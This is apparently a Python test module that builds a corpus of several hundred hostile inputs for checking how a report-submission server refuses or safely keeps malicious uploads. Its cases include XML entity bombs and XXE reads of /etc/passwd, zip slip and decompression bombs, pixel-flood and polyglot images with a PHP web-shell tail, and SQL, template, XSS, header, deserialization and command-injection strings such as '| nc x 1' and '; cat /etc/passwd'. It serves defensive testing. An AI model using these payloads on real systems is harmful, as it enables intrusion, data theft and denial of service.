"""Hostile input, made anew each time: twelve families, more than three hundred cases.

A case is bytes as somebody would send them whole, and, where its malice is in a text, the text itself. `legal`: a careful
server may keep it, when it keeps it as what it is; everything else must be refused.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.cast import TPS
from tests.reports.samples import SAID, photo

MARK = b"<script>alert(1)</script>"


@dataclass(frozen=True)
class Case:
    """One piece of malice. `content`: a whole body or file. `text`: the same as a value of a field."""

    family: str
    name: str
    content: bytes = b""
    text: str | None = None
    legal: bool = False
    media_type: str = "application/octet-stream"

    def __str__(self) -> str:
        return f"{self.family}-{self.name}"


def corpus() -> list[Case]:
    families = (
        xml, encodings, archives, pixel_floods, broken_images, oversize, multipart, traversal, formulas, hidden_marks,
        json_tricks, injections,
    )  # fmt: skip
    return [case for family in families for case in family()]


def xml() -> Iterator[Case]:
    def case(name: str, content: str | bytes) -> Case:
        return Case("xml", name, content.encode() if isinstance(content, str) else content, media_type="text/xml")

    for levels in (3, 6, 9, 12):
        entities = "".join(
            f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(levels)
        )  # fmt: skip
        yield case(f"bomb-{levels}", f"<!DOCTYPE d [{entities}]><d>&a{levels - 1};</d>")
    for size in (10_000, 60_000):
        yield case(f"quadratic-{size}", f'<!DOCTYPE d [<!ENTITY a "{"x" * size}">]><d>{"&a;" * (size // 10)}</d>')
    for name, target in {
        "file": "file:///etc/passwd", "http": "http://127.0.0.1:9/x", "ftp": "ftp://127.0.0.1/x", "php": "php://filter",
        "proc": "file:///proc/self/environ", "netdoc": "netdoc:///etc/passwd",
    }.items():  # fmt: skip
        yield case(f"xxe-{name}", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]><d>&x;</d>')
        yield case(f"xxe-parameter-{name}", f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{target}"> %x;]><d/>')
        yield case(f"dtd-{name}", f'<!DOCTYPE d SYSTEM "{target}"><d/>')
    for depth in (1_000, 20_000, 200_000):
        yield case(f"depth-{depth}", "<a>" * depth + "</a>" * depth)
    yield case("attributes", "<d " + " ".join(f'a{n}="1"' for n in range(20_000)) + "/>")
    yield case("namespaces", "<d " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(5_000)) + "/>")
    yield case("xinclude", '<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></d>')
    yield case("stylesheet", '<?xml-stylesheet href="file:///etc/passwd"?><d/>')
    yield case("utf16", '<?xml version="1.0" encoding="UTF-16"?><d/>'.encode("utf-16"))
    yield case("utf7", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-d/+AD4-')
    yield case("unclosed", "<d><e>")
    yield case("no-root", "")


def encodings() -> Iterator[Case]:
    broken = {
        "lone-continuation": b"\x80", "cut-2": b"\xc3", "cut-3": b"\xe2\x82", "cut-4": b"\xf0\x9f\x98",
        "overlong-slash": b"\xc0\xaf", "overlong-nul": b"\xc0\x80", "overlong-3": b"\xe0\x80\xaf",
        "overlong-4": b"\xf0\x80\x80\xaf", "surrogate-high": b"\xed\xa0\x80", "surrogate-low": b"\xed\xb0\x80",
        "surrogate-pair": b"\xed\xa0\xbd\xed\xb8\x80", "beyond-unicode": b"\xf4\x90\x80\x80", "five-bytes": b"\xf8\x88\x80\x80\x80",
        "six-bytes": b"\xfc\x84\x80\x80\x80\x80", "ff": b"\xff", "fe": b"\xfe", "latin1": "jalan dépan".encode("latin-1"),
    }  # fmt: skip
    whole = json.dumps(SAID)
    for name, piece in broken.items():
        yield Case("encoding", name, whole.replace("Dua", "D@a").encode().replace(b"@", piece))
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-7", "cp500"):
        yield Case("encoding", name, whole.encode(name))
    yield Case("encoding", "bom", b"\xef\xbb\xbf" + whole.encode())
    for name, text in {
        "nul": "a\x00b",
        "nul-escaped": "\x00",
        "lone-surrogate": "\ud800",
        "noncharacter": "\ufffe",
    }.items():
        yield Case("encoding", name, _said(text), text, legal=name == "noncharacter")
    yield Case("encoding", "nul-bytes", bytes(1000))
    yield Case("encoding", "empty", b"")


def archives() -> Iterator[Case]:
    slips = (
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\windows\\x",
        "C:\\x",
        "a/../../../b",
        "./.././x",
        "~/x",
        "a\x01b",
    )
    for number, name in enumerate(slips):
        yield Case("archive", f"slip-{number}", _zip({name: b"x"}), media_type="application/zip")
    for megabytes in (1, 50, 200):
        yield Case("archive", f"bomb-{megabytes}", _zip({"a": bytes(megabytes << 20)}), media_type="application/zip")
    inner = _zip({"a": bytes(10 << 20)})
    for depth in range(1, 6):
        inner = _zip({f"{n}.zip": inner for n in range(8)})
        yield Case("archive", f"nested-{depth}", inner[: 4 << 20], media_type="application/zip")
    sheet = b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet><sheetData>&a;</sheetData></worksheet>'
    workbook = {
        "[Content_Types].xml": b"<Types/>",
        "xl/workbook.xml": b"<workbook/>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    yield Case("archive", "xlsx-with-dtd", _zip(workbook))
    yield Case("archive", "xlsx-bomb", _zip({**workbook, "xl/sharedStrings.xml": b"<sst>" + bytes(100 << 20)}))
    yield Case("archive", "many-files", _zip({f"{n}": b"" for n in range(20_000)}))
    yield Case("archive", "cut", _zip({"a": b"x" * 1000})[:-10])
    yield Case("archive", "gzip-bomb", _gzip(bytes(200 << 20)), media_type="application/gzip")
    yield Case("archive", "forged-directory", b"PK\x05\x06" + b"\xff" * 18)


def pixel_floods() -> Iterator[Case]:
    for side in (7_000, 20_000, 65_535, 2_000_000_000):
        yield Case("pixels", f"png-{side}", _png(side, side), media_type="image/png")
    for side in (3_900, 12_000, 30_000):
        for colour, name in ((0, "grey"), (2, "rgb"), (6, "rgba")):
            content = _png(side, side, colour=colour, honest=side <= 3_900)
            yield Case("pixels", f"png-{name}-{side}", content, legal=side <= 3_900, media_type="image/png")
    jpeg = photo(1)
    at = jpeg.index(b"\xff\xc0") + 5
    for height, width in ((65_535, 65_535), (65_500, 1), (1, 65_500), (0, 64), (64, 0)):
        forged = jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]
        yield Case("pixels", f"jpeg-{height}x{width}", forged, legal=True, media_type="image/jpeg")
    out = io.BytesIO()
    Image.new("RGB", (4800, 4800)).save(out, "JPEG", progressive=True, quality=10)
    progressive = out.getvalue()
    last = progressive.rindex(b"\xff\xda")
    yield Case("pixels", "jpeg-progressive", progressive, legal=True, media_type="image/jpeg")
    yield Case("pixels", "jpeg-scans", progressive[:-2] + progressive[last:-2] * 400, media_type="image/jpeg")
    for side in (3_400, 16_383):
        out = io.BytesIO()
        Image.new("RGB", (side, 3_400)).save(out, "WEBP", quality=1, method=0)
        yield Case("pixels", f"webp-{side}", out.getvalue(), legal=side == 3_400, media_type="image/webp")
    text = zlib.compress(bytes(64 << 20))
    for kind, head in ((b"zTXt", b"a\0\0"), (b"iCCP", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0")):
        content = _png(64, 64, honest=True, extra=_chunk(kind, head + text))
        yield Case("pixels", f"png-{kind.decode()}", content, legal=True, media_type="image/png")
    yield Case("pixels", "apng-frames", _png(64, 64, honest=True, extra=_chunk(b"acTL", b"\x7f\xff\xff\xff" + bytes(4))), legal=True, media_type="image/png")  # fmt: skip


def broken_images() -> Iterator[Case]:
    for form in ("JPEG", "PNG", "WEBP"):
        whole, kind = photo(2, form=form), f"image/{form.lower()}"
        for share in (0, 1, 3, 10, 20, 40, 60, 80, 95):
            cut = whole[: len(whole) * share // 100]
            yield Case("image", f"{form.lower()}-cut-{share}", cut, legal=False, media_type=kind)
        for number, place in enumerate((16, 30, 60, 120)):
            hurt = whole[:place] + bytes(byte ^ 0xFF for byte in whole[place : place + 8]) + whole[place + 8 :]
            yield Case("image", f"{form.lower()}-hurt-{number}", hurt, legal=True, media_type=kind)
        for name, tail in {
            "html": b"<html>" + MARK, "php": b"<?php system($_GET[0]);?>", "zip": _zip({"../x": b"x"}),
            "pdf": b"%PDF-1.4\n/JavaScript", "elf": b"\x7fELF" + bytes(64), "svg": b"<svg onload=alert(1)>",
        }.items():  # fmt: skip
            yield Case("image", f"{form.lower()}-with-{name}", whole + tail, legal=True, media_type=kind)
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    yield Case("image", "script-in-exif", photo(3, exif=exif.tobytes()), legal=True, media_type="image/jpeg")
    yield Case("image", "script-before", MARK + photo(3), media_type="image/jpeg")
    yield Case(
        "image", "svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', media_type="image/svg+xml"
    )
    yield Case("image", "gif-named-jpeg", b"GIF89a" + bytes(100), media_type="image/jpeg")
    yield Case("image", "eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file", media_type="image/png")
    yield Case("image", "tiff", b"II*\x00" + bytes(200), media_type="image/jpeg")


def oversize() -> Iterator[Case]:
    for kilobytes in (129, 1_024, 5_200, 9_000):
        yield Case("oversize", f"text-{kilobytes}k", _said("x" * (kilobytes << 10)))
        yield Case("oversize", f"spaces-{kilobytes}k", json.dumps(SAID).encode() + b" " * (kilobytes << 10))
        yield Case("oversize", f"noise-{kilobytes}k", b"\xff\xd8\xff" + bytes(kilobytes << 10), media_type="image/jpeg")
    for length in (10_001, 40_000):
        yield Case("oversize", f"characters-{length}", _said("x" * length), "x" * length)
    yield Case("oversize", "combining", _said("a" + "\u0301" * 9_000), "a" + "\u0301" * 9_000, legal=True)
    yield Case("oversize", "expands", _said("\ufdfa" * 9_000), "\ufdfa" * 9_000, legal=True)


def multipart() -> Iterator[Case]:
    part = b'--b\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n\r\n%s\r\n'
    bodies = {
        "no-end": part % (b"a", b"x", b"y"),
        "no-blank-line": b'--b\r\nContent-Disposition: form-data; name="a"\r\n--b--',
        "many-parts": b"".join(part % (str(n).encode(), b"x", b"y") for n in range(3_000)) + b"--b--",
        "many-fields": b"".join(part.replace(b'; filename="%s"', b"") % (str(n).encode(), b"y") for n in range(3_000)) + b"--b--",
        "long-header": b"--b\r\nX: " + b"y" * 100_000 + b"\r\n\r\n--b--",
        "many-headers": b"--b\r\n" + b"X: y\r\n" * 5_000 + b"\r\n\r\n--b--",
        "traversal": part % (b"xml_submission_file", b"../../../etc/passwd", b"<d/>") + b"--b--",
        "nul-name": part % (b"a\x00b", b"x\x00.xml", b"y") + b"--b--",
        "quotes": part % (b'a"b', b'x"; y="', b"z") + b"--b--",
        "twice": (part % (b"xml_submission_file", b"x", b"<d/>")) * 2 + b"--b--",
        "bad-base64": b'--b\r\nContent-Disposition: form-data; name="a"; filename="x"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n--b--',
        "nested": b'--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n\r\nx\r\n--c--\r\n--b--',
        "bare-lf": (part % (b"a", b"x", b"y")).replace(b"\r\n", b"\n") + b"--b--",
        "dashes": b"--" * 50_000,
        "empty": b"",
    }  # fmt: skip
    for name, content in bodies.items():
        yield Case("multipart", name, content, media_type="multipart/form-data; boundary=b")
    for number, boundary in enumerate(("", "x" * 300, "b\x01", "é", '"', "b; boundary=c")):
        yield Case(
            "multipart", f"boundary-{number}", part % (b"a", b"x", b"y"),
            media_type=f"multipart/form-data; boundary={boundary}",
        )  # fmt: skip


def traversal() -> Iterator[Case]:
    texts = (
        "../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd", "C:\\boot.ini",
        "\\\\server\\share\\x", "~/.ssh/id_rsa", "/proc/self/environ", "a/../b", "./.", "CON", "aux.txt", "x" * 150 + "/../y",
        "keys/journal-anchor.ed25519", "../keys/wasdini_secret_key",
    )  # fmt: skip
    for number, text in enumerate(texts):
        yield Case("traversal", str(number), _said(text), text, legal=True)


def formulas() -> Iterator[Case]:
    texts = (
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x\",\"y\")", "\t=1+1", "\n=1+1",
        "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "%0A=1+1", "'=1+1", "\uff1d1+1", "|cmd", "0x0=1", "=2+5+cmd|'/C calc'!A0",
    )  # fmt: skip
    for number, text in enumerate(texts):
        yield Case("formula", str(number), _said(text), text, legal=True)


def hidden_marks() -> Iterator[Case]:
    for point in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0xFEFF, 0xFFF9, 0xFFFA, 0xFFFB):
        yield Case("hidden", f"u{point:04x}", _said(f"aman{chr(point)}bahaya"), f"aman{chr(point)}bahaya")
    for point in (*range(0x01, 0x09), 0x0B, 0x0C, 0x0E, 0x1B, 0x7F, 0x80, 0x85, 0x9B, 0xE000):
        yield Case("hidden", f"c{point:02x}", _said(f"a{chr(point)}b"), f"a{chr(point)}b")
    for point in (0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x3164, 0x00AD, 0xE0041):
        yield Case("hidden", f"v{point:04x}", _said(f"a{chr(point)}b"), f"a{chr(point)}b", legal=True)


def json_tricks() -> Iterator[Case]:
    for depth in (100, 1_000, 60_000):
        yield Case("json", f"depth-list-{depth}", b"[" * depth + b"]" * depth)
        yield Case("json", f"depth-object-{depth}", b'{"a":' * (depth // 5) + b"1" + b"}" * (depth // 5))
        yield Case("json", f"depth-open-{depth}", b"[" * depth)
        inside = json.dumps(SAID)[:-1].encode() + b', "findings": ' + b"[" * depth + b"]" * depth + b"}"
        yield Case("json", f"depth-inside-{depth}", inside)
    numbers = ("9" * 19, "9" * 5_000, "9" * 100_000, "1e400", "-1e400", "NaN", "Infinity", "-Infinity", "1" + "0" * 30 + ".5", "-0", "1E-400", "0x10", "01", "1_000", "true", "null", '"3"', "[]", "{}", "3.5", "-1", "6", "2147483648", "9223372036854775808")  # fmt: skip
    for number, written in enumerate(numbers):
        for name in ("urgency", "lat"):
            said = json.dumps({**SAID, name: "@"}).replace('"@"', written).encode()
            yield Case("json", f"number-{name}-{number}", said, legal=True)
    for name, content in {
        "twice": b'{"kind":"incident","kind":"nil"}', "comment": b"{/* */}", "single": b"{'a': 1}", "tail": json.dumps(SAID).encode() + b"{}",
        "list": b"[1]", "text": b'"x"', "null": b"null", "proto": b'{"__proto__": {"x": 1}}', "class": b'{"__class__": "x"}',
        "comma": b'{"a": 1,}', "escape": b'{"a": "\\x"}', "cut": json.dumps(SAID).encode()[:-5],
    }.items():  # fmt: skip
        yield Case("json", name, content)
    yield Case("json", "many-names", json.dumps({f"n{n}": n for n in range(5_000)}).encode())
    yield Case("json", "many-issues", json.dumps({**SAID, "issues": ["intimidation"] * 20_000})[: 120 << 10].encode())
    yield Case("json", "long-name", json.dumps({"n" * 100_000: 1}).encode())


def injections() -> Iterator[Case]:
    texts = (
        "'; DROP TABLE reports_report; --", "' OR '1'='1", "1; SELECT pg_sleep(5)", "\\'; --", "admin'/*", "x' UNION SELECT 1--",
        "{{7*7}}", "{% debug %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{request.user}}", "{{''.__class__.__mro__}}", "%(x)s %s %d", "{0.__class__}",
        "a\r\nSet-Cookie: x=1", "a\r\n\r\n<html>", "a%0d%0aX: y", "a\nBcc: x@y.id", "\\r\\nX: y",
        MARK.decode(), '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "<svg/onload=alert(1)>", "&lt;script&gt;", "]]>", "<!--", "</textarea><script>1</script>",
        "${jndi:ldap://x/y}", "`id`", "$(id)", "; cat /etc/passwd", "| nc x 1", "&& id", "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}",
        "__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "O:8:\"stdClass\":0:{}", "cos\nsystem\n(S'id'\ntR.",
    )  # fmt: skip
    for number, text in enumerate(texts):
        yield Case("injection", str(number), _said(text), text, legal=True)


def _said(text: str) -> bytes:
    return json.dumps({**SAID, "tps_code": TPS, "text": text}).encode()


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _gzip(content: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(content) + packer.flush()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png(width: int, height: int, *, colour: int = 2, honest: bool = False, extra: bytes = b"") -> bytes:
    """`honest`: all the pixels it promises are really there."""
    width, height = min(width, 2**31 - 1), min(height, 2**31 - 1)
    depth = {0: 1, 2: 3, 6: 4}[colour]
    packer = zlib.compressobj(1)
    rows = b"".join(packer.compress(bytes(1 + width * depth)) for _ in range(height)) if honest else b""
    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + extra
        + _chunk(b"IDAT", rows + packer.flush())
        + _chunk(b"IEND", b"")
    )
